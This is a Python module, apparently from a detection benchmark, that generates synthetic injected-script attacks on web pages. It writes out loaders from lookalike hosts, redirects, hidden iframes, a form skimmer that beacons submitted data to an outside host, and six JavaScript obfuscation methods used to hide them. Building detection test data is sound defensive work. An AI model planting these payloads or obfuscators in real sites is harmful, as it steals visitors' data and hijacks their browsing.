"""Scripts that are not the site's: from a new host, hidden in the page, or added to one that was there."""

# ruff: noqa: E501 - mark-up and wording stay on one line, as they are served

import base64
from random import Random

from bench.detect.attacks import texts
from bench.detect.attacks.markup import (
    at_end,
    bare,
    in_head,
    js,
    text_of,
    with_extra,
    with_text,
)
from bench.detect.attacks.shown import own_script
from bench.detect.scene import Answer, Kind, Scene

_HOSTS = (
    "cdn-jquery.top", "static-jquery.xyz", "js-cloudstat.click", "google-analytlcs.top", "code-jquery-min.icu", "cdn.wp-count.xyz",
    "stat-counter.click", "ads-sync.top", "fontawesome-kit.icu", "cdnjs-cloudfare.xyz",
)  # fmt: skip
_PATHS = (
    "/jquery.min.js",
    "/j.js",
    "/stat.js?v={n}",
    "/x/{n}.js",
    "/lib/ui-{n}.min.js",
    "/t.php?id={n}",
    "/{n}",
)


def address(dice: Random) -> str:
    """Of a script on an attacker's host."""
    host = dice.choice((dice.choice(_HOSTS), dice.choice(_HOSTS), texts.host(dice)))
    return f"https://{host}{dice.choice(_PATHS).format(n=dice.randrange(100, 99999))}"


def payload(dice: Random) -> tuple[str, str | None]:
    """What an injected script does, and the address that it loads a script from, if any."""
    url = address(dice)
    other = f"https://{texts.host(dice)}/"
    return dice.choice(
        (
            (f"var s=document.createElement('script');s.src={js(url)};document.head.appendChild(s);", url),
            (f"document.write('<script src=\"{url}\"><\\/script>');", url),
            (f"if(/Android|iPhone|Mobile/i.test(navigator.userAgent)){{location.href={js(other)};}}", None),
            (f"if(/google\\.|bing\\.|coccoc/.test(document.referrer)){{window.location={js(other)};}}", None),
            (
                "var f=document.createElement('iframe');f.width=1;f.height=1;f.style.opacity=0;"
                f"f.src={js(other)};document.body.appendChild(f);",
                None,
            ),
            (
                f"document.addEventListener('click',function(){{if(!window.__p){{window.__p=1;window.open({js(other)});}}}});",
                None,
            ),
            (
                "document.addEventListener('submit',function(e){var d=new FormData(e.target);"
                f"navigator.sendBeacon({js(other + 'c.php')},d);}},true);",
                None,
            ),
        )
    )


def hex_array(code: str, dice: Random) -> str:
    """Strings as an array of hex escapes that the code picks from."""
    cut = max(8, len(code) // 6)
    parts = [code[n : n + cut] for n in range(0, len(code), cut)]
    quoted = ",".join('"' + "".join(f"\\x{ord(c):02x}" for c in part) + '"' for part in parts)
    name = f"_0x{dice.randrange(0x1000, 0xFFFF):x}"
    picked = "+".join(f"{name}[0x{n:x}]" for n in range(len(parts)))
    return f"var {name}=[{quoted}];(new Function({picked}))();"


def char_codes(code: str, dice: Random) -> str:
    codes = ",".join(str(ord(c)) for c in code)
    shape = "eval(String.fromCharCode({c}));" if dice.random() < 0.5 else "var k=[{c}],o='';for(var i=0;i<k.length;i++)o+=String['fromCharCode'](k[i]);(0,eval)(o);"  # fmt: skip
    return shape.replace("{c}", codes)


def base64_text(code: str, dice: Random) -> str:
    packed = base64.b64encode(code.encode()).decode()
    return dice.choice((f"eval(atob('{packed}'));", f"new Function(window['at'+'ob']('{packed}'))();"))


def percent(code: str, dice: Random) -> str:
    packed = "".join(f"%{ord(c):02X}" for c in code)
    return dice.choice((f"eval(unescape('{packed}'));", f"eval(decodeURIComponent('{packed}'));"))


def packer(code: str, dice: Random) -> str:
    """In the manner of a well-known packer: words replaced by their number in a list."""
    words: list[str] = []
    packed, word = "", ""
    for c in f"{code} ":
        if c.isalnum() or c == "_":
            word += c
            continue
        if word:
            words.append(word) if word not in words else None
            packed += _base36(words.index(word))
        packed, word = packed + c, ""
    quoted = packed[:-1].replace("\\", "\\\\").replace("'", "\\'")
    return (
        "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--){if(k[c]){"
        "p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
        f"('{quoted}',36,{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))"
    )


def _base36(number: int) -> str:
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    return digits[number] if number < 36 else _base36(number // 36) + digits[number % 36]


def brackets(code: str, dice: Random) -> str:
    """Six kinds of character only, in the manner of JSFuck; a few of the pieces, as the whole would fill
    hundreds of kilobytes, and a reversed string that is run."""
    pieces = ("(![]+[])[+[]]", "(![]+[])[+!+[]]", "([![]]+[][[]])[+!+[]+[+[]]]", "(!![]+[])[+!+[]]", "[][[]]", "(+[![]]+[])[+!+[]]")  # fmt: skip
    noise = "+".join(dice.choice(pieces) for _ in range(dice.randrange(60, 160)))
    backwards = js(code[::-1])
    return f"var _=({noise});[]['filter']['constructor']({backwards}.split('').reverse().join(''))();"


STYLES = (hex_array, char_codes, base64_text, percent, packer, brackets)


def obfuscated(dice: Random) -> tuple[str, str | None]:
    code, url = payload(dice)
    return dice.choice(STYLES)(code, dice), url


def external(scene: Scene, dice: Random) -> Scene:
    """A script element from a host that the page never loaded from."""
    url = address(dice)
    tag = dice.choice(
        (
            f'<script src="{url}"></script>',
            f"<script type='text/javascript' src='{url}' async></script>",
            f'<script src="{url.removeprefix("https:")}" defer></script>',
        )
    )
    made = with_text(scene, dice.choice((in_head, at_end))(text_of(scene), tag))
    return with_extra(made, {url: served(dice)})


def served(dice: Random) -> Answer:
    """What the attacker's host gives: a counter that does nothing to be seen, or adds spam to the page."""
    spam = "".join(f'<a href="{url}">{text}</a> ' for url, text in texts.links(dice))
    code = dice.choice(
        (
            "(function(){new Image().src='https://stat-counter.click/p?'+Math.random();})();",
            f"document.addEventListener('DOMContentLoaded',function(){{var d=document.createElement('div');d.style.display='none';d.innerHTML={js(spam)};document.body.appendChild(d);}});",
            "/* */",
        )
    )
    return Answer(code.encode(), kind="text/javascript")


def _with(scene: Scene, url: str | None, dice: Random) -> Scene:
    return with_extra(scene, {url: served(dice)}) if url else scene


def inline(scene: Scene, dice: Random) -> Scene:
    """An inline script whose code is packed."""
    code, url = obfuscated(dice)
    tag = _tag(code, dice)
    return _with(with_text(scene, dice.choice((in_head, at_end))(text_of(scene), tag)), url, dice)


def _tag(code: str, dice: Random) -> str:
    kind = dice.choice(("", ' type="text/javascript"', ' language="javascript"'))
    return f"<script{kind}>{code}</script>"


def altered_file(scene: Scene, dice: Random) -> Scene | None:
    """A script file of the site's own is served with code before or after its own."""
    own = own_script(scene, dice)
    if own is None:
        return None
    code, url = obfuscated(dice) if dice.random() < 0.6 else payload(dice)
    added = f";{code}\n".encode()
    body = added + own[1] if dice.random() < 0.5 else own[1] + b"\n" + added
    return _with(with_extra(scene, {own[0]: Answer(body, kind="text/javascript")}), url, dice)


def altered_inline(scene: Scene, dice: Random) -> Scene | None:
    """An inline script that was there gets code before or after its own."""
    text = text_of(scene)
    low = bare(text).lower()
    places, start = [], 0
    while (start := low.find("<script>", start)) >= 0:
        end = low.find("</script", start)
        if end > start + 20:
            places.append((start + 8, end))
        start += 8
    if not places:
        return None
    start, end = dice.choice(places)
    code, url = obfuscated(dice) if dice.random() < 0.6 else payload(dice)
    place, added = (start, f"{code};") if dice.random() < 0.5 else (end, f"\n;{code}")
    return _with(with_text(scene, text[:place] + added + text[place:]), url, dice)


INJECTED = (
    Kind("script from a new host", "injected", "defaced", external, browser=False),
    Kind("inline script, packed", "injected", "defaced", inline, browser=False),
    Kind("known script file altered", "injected", "defaced", altered_file),
    Kind("known inline script altered", "injected", "defaced", altered_inline, browser=False),
)
